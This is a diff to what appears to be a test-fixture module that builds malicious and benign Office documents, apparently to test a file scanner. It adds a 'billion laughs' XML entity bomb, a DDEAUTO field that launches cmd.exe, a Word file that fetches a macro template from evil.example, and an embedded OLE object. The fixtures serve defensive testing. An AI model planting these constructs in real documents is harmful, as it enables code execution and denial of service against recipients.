@@ -39,6 +39,11 @@ def inserting(addition: bytes, before: bytes) -> Callable[[bytes], bytes]:
     return lambda body: body.replace(before, addition + before, 1)
 
 
+# A document type whose last entity expands to 10^8 "ha"s (the "billion laughs").
+LAUGHS = b'<!DOCTYPE worksheet [<!ENTITY a "ha">' + b"".join(
+    b'<!ENTITY %c "%s">' % (ord("b") + n, (b"&%c;" % (ord("a") + n)) * 10) for n in range(8)) + b"]>"
+
+
 # Word --------------------------------------------------------------------------------------------
 
 DOCX_TYPES = (
@@ -139,6 +144,51 @@ def ole_object_runs(relationship_id: str = "rId100") -> str:
     )
 
 
+DDE_CODE = ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '
+OLE_TYPE = '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
+
+
+def attached_template(mode: str = "External") -> bytes:
+    """A document based on a template Word fetches when opening it (macros and all)."""
+    settings_xml = f'<w:settings {WORD_NAMESPACES}><w:attachedTemplate r:id="rId100"/></w:settings>'.encode()
+    return word_file(parts=(
+        ("word/settings.xml", settings_xml),
+        ("word/_rels/settings.xml.rels", relationships(("attachedTemplate", "https://evil.example/t.dotm", mode))),
+    ))
+
+
+def word_with_ole_object() -> bytes:
+    return word_file(
+        f"<w:p>{ole_object_runs()}</w:p>",
+        rels=(("oleObject", "embeddings/oleObject1.bin"), ("image", "media/image1.emf")),
+        parts=(("word/embeddings/oleObject1.bin", OLE_FILE), ("word/media/image1.emf", b"\x01\x00\x00\x00")),
+        types=OLE_TYPE + '<Default Extension="emf" ContentType="image/x-emf"/>',
+    )
+
+
+CHART = (
+    '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" '
+    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><c:chart><c:plotArea><c:barChart>'
+    "<c:ser><c:val><c:numRef><c:f>Sheet1!$B$2:$B$5</c:f></c:numRef></c:val></c:ser></c:barChart></c:plotArea>"
+    '</c:chart><c:externalData r:id="rId100"/></c:chartSpace>'
+).encode()
+
+
+def word_with_chart() -> bytes:
+    """A chart keeps its figures in an embedded workbook: an object, but not an OLE one."""
+    return word_file(
+        '<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/'
+        'drawingml/2006/chart"><c:chart r:id="rId100"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>',
+        rels=(("chart", "charts/chart1.xml"),),
+        parts=(("word/charts/chart1.xml", CHART),
+               ("word/charts/_rels/chart1.xml.rels", relationships(("package", "../embeddings/Microsoft_Excel_Worksheet.xlsx"))),
+               ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", xlsx_bytes())),
+        types='<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/>'
+              '<Override PartName="/word/charts/chart1.xml" '
+              'ContentType="application/vnd.openxmlformats-officedocument.drawingml.chart+xml"/>',
+    )
+
+
 # Excel -------------------------------------------------------------------------------------------
 
 
@@ -183,6 +233,21 @@ def cell_formula(*formulas: str, sheet: str | None = None) -> Callable[[Workbook
         for row, formula in enumerate(formulas, start=2):
             workbook.active[f"A{row}"] = formula
     return edit
+
+
+SPREADSHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+OLE_OBJECTS = (
+    b'<oleObjects><oleObject xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
+    b'progId="Package" shapeId="1025" r:id="rId100"/></oleObjects>'
+)
+
+
+def workbook_with_links_and_formulas(workbook: Workbook) -> None:
+    """A hyperlink, and formulas with "|" in a string and in a sheet's name."""
+    workbook.active["A3"] = "GOV.UK"
+    workbook.active["A3"].hyperlink = "https://www.gov.uk/"
+    cell_formula('=IF(A1="a|b",1,0)', "=SUM('Q1 | Q2'!B1:B3)", "=VLOOKUP(A1,Table1[[#All],[Item]],2,FALSE)",
+                 sheet="Q1 | Q2")(workbook)
 
 
 # OpenDocument ------------------------------------------------------------------------------------
